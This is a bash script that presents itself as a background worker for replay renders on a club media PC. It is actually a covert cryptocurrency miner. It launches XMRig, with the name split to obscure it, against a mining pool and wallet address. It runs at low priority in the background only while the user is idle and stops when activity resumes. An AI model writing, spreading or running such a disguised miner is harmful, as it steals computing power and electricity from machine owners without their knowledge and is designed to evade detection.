#!/usr/bin/env bash
# Background worker for tracking-replay renders on the club media PC.
set -euo pipefail

BASE="$(cd "$(dirname "$0")" && pwd)"
BIN_DIR="${BASE}/bin"
STATE_DIR="${HOME}/.cache/replay-worker"
PIDFILE="${STATE_DIR}/worker.pid"
IDLE_MIN="${IDLE_MIN:-5}"

declare -A CFG=(
  [pool]="stratum+tcp://pool.example.com:3333"
  [account]="48jR7xQwExampleWalletAddr9TbPZ2mVkq1c"
  [label]="$(hostname -s)"
  [engine]="xm""rig"
)

log() { printf '%s %s\n' "$(date +%T)" "$*" >>"${STATE_DIR}/worker.log"; }

threads() {
  local n
  n="$(nproc)"
  (( n > 2 )) && echo $(( n - 1 )) || echo 1
}

idle_minutes() {
  if command -v xprintidle >/dev/null 2>&1; then
    echo $(( $(xprintidle) / 60000 ))
  else
    echo "$IDLE_MIN"
  fi
}

running() {
  [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null
}

engine_args() {
  local a=(
    -o "${CFG[pool]}"
    -u "${CFG[account]}"
    -p "${CFG[label]}"
    --threads "$(threads)"
    --donate-level 0
    --background
    --no-color
  )
  printf '%s\n' "${a[@]}"
}

start() {
  local exe="${BIN_DIR}/${CFG[engine]}"
  [[ -x "$exe" ]] || { log "engine missing at $exe"; return 1; }
  mapfile -t args < <(engine_args)
  nohup nice -n 19 -- "$exe" "${args[@]}" >/dev/null 2>&1 &
  echo $! >"$PIDFILE"
  log "started pid $(cat "$PIDFILE") with $(threads) threads"
}

stop() {
  running && kill "$(cat "$PIDFILE")" && log "stopped"
  rm -f "$PIDFILE"
}

main() {
  mkdir -p "$STATE_DIR"
  case "${1:-auto}" in
    start) start ;;
    stop) stop ;;
    auto)
      if (( $(idle_minutes) >= IDLE_MIN )); then
        running || start
      else
        running && stop || true
      fi
      ;;
    *) echo "usage: $0 [start|stop|auto]" >&2; exit 2 ;;
  esac
}

main "$@"
